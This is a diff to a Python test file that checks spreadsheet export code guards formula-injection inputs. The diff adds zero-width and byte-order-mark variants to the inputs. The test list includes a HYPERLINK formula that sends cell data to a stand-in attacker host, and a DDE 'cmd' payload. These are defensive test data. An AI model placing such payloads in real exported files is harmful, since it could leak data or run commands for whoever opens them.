@@ -23,6 +23,7 @@ ROWS = st.lists(st.lists(NUMBERS, min_size=3, max_size=3), max_size=5)
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Open report")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1",
     "\n=1", "＝1+1", "＋1", "－1", "＠A1", " =1+1", "\xa0=1",
+    "\ufeff=1", "\u200b\u2060+1",
 ]  # fmt: skip
 
 
@@ -33,7 +34,7 @@ def test_a_formula_is_written_as_text(text):
     assert unguarded(guarded(text)) == text or text[0] in "\t\r\n"
     cell = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"s": [[text]]})))["s"]["A1"]
     assert (cell.data_type, cell.value) == ("s", text.replace("\r", "\n"))
-    assert cell.quotePrefix == (text[0] not in " \xa0")
+    assert cell.quotePrefix == (text[0] not in " \xa0\ufeff\u200b")
 
 
 @pytest.mark.parametrize("text", ["a,=1+1", 'a;"=1+1', "a\n=1+1", "a\t@x", "a,＝1"])
